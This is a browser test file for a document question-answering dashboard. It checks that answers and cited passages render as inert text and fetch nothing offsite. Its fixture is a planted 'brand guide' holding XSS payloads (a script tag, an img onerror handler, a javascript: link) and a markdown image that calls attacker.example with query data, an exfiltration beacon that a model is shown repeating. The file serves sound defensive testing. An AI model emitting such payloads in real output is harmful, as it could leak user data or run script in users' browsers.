"""Model output and document text reach the browser as text: no image, link, HTML or script from them is active.

Every request of the page is intercepted: any for a host but the dashboard's own fails the test (and is aborted, so
nothing leaves even when it would). The payloads must still be readable, as text.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Locator, Page, expect

from ingest.ingestor import ingest_files, sources_for
from settings import Settings
from tests.browser import ARTIFACTS, Offsite, block_offsite, running_dashboard
from tests.conftest import open_store
from tests.hostile import ATTACKER, PAYLOADS
from ui.safe_text import WORD_JOINER

pytestmark = [pytest.mark.browser]
ACTIVE = "a[href], img, script, iframe, object, embed, svg image"
# what a hostile document plants (one question keeps the real-model test bounded: the answer repeats the image)
LOGO = "![Zephyr logo](https://attacker.example/logo.png?q=zephyr)"
BRAND = f"""# Zephyr brand guide

The Zephyr logo is {LOGO}.

The Zephyr help page is [Zephyr help](javascript:alert('help')) and the status page is https://attacker.example/status.
<img src=https://attacker.example/pixel.png onerror=alert('img')> <script>alert('script')</script>
"""


def text_of(area: Locator) -> str:
    """What a person reads in `area`: the word joiners that break autolinks removed, whitespace collapsed."""
    return " ".join(area.inner_text().replace(WORD_JOINER, "").split())


def assert_inert(area: Locator, offsite: Offsite, payloads: list[str]) -> None:
    for expander in area.get_by_test_id("stExpander").all():  # open them all: their content must be inert too
        expander.locator("summary").click()
    area.page.wait_for_timeout(500)  # what the expanders revealed has had time to load
    assert offsite.requests == [], offsite.requests
    assert offsite.dialogs == [], offsite.dialogs
    assert area.locator(ACTIVE).count() == 0, area.locator(ACTIVE).evaluate_all("els => els.map(e => e.outerHTML)")
    shown = text_of(area)
    for payload in payloads:
        assert " ".join(payload.split()) in shown, payload


def test_hostile_answer_claims_and_passages_show_as_text_and_fetch_nothing(page: Page):
    with running_dashboard("tests/output_safety_app.py") as url:
        offsite = block_offsite(page, url)
        page.goto(url)
        expect(page.get_by_text("rendered")).to_be_visible(timeout=60_000)
        for key in ("streamed", "answered", "abstained"):
            assert_inert(page.locator(f".st-key-{key}"), offsite, PAYLOADS)
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "output_safety_fake.png"), full_page=True)


@pytest.mark.llm
def test_a_real_answer_repeating_a_hostile_document_fetches_nothing(settings: Settings, embedder, llm_base_url,
                                                                    page: Page, tmp_path):
    (tmp_path / "kb").mkdir()
    (tmp_path / "kb" / "brand.md").write_text(BRAND, encoding="utf-8")
    store = open_store(settings)
    try:  # closed before the dashboard opens the folder: embedded Qdrant allows one process per folder
        assert not ingest_files(store, embedder, sources_for(tmp_path / "kb"), "hostile", settings.chunk_size,
                                settings.chunk_overlap).failed
    finally:
        store.client.close()
    with running_dashboard(FQA_DATA_DIR=str(settings.data_dir), FQA_COLLECTION="hostile",
                           OPENAI_BASE_URL=llm_base_url) as url:
        offsite = block_offsite(page, url)
        page.goto(url)
        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
        page.get_by_label("Question").fill("What is the Zephyr logo?")
        page.get_by_role("button", name="Ask").click()
        expect(page.get_by_text(re.compile(r"\d+/\d+ claims supported")).first).to_be_visible(timeout=400_000)
        answer = page.get_by_test_id("stAlertContentSuccess")
        assert "attacker.example/logo.png" in text_of(answer), text_of(answer)  # the model repeated the image
        citation = page.get_by_test_id("stExpander").filter(has_text="kb/brand.md").first
        citation.click()
        for planted in ("<script>alert('script')</script>", "[Zephyr help](javascript:alert('help'))", "onerror="):
            expect(citation).to_contain_text(planted, timeout=30_000)  # shown as text once the expander has opened
        page.wait_for_timeout(500)
        main = page.get_by_test_id("stMain")
        hostile = "a[href*='attacker.example'], img[src*='attacker.example'], a[href^='javascript'], script, iframe"
        assert main.locator(hostile).count() == 0, main.locator(hostile).evaluate_all("e => e.map(x => x.outerHTML)")
        assert offsite.requests == [], offsite.requests
        assert offsite.dialogs == [], offsite.dialogs
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "output_safety_llm.png"), full_page=True)
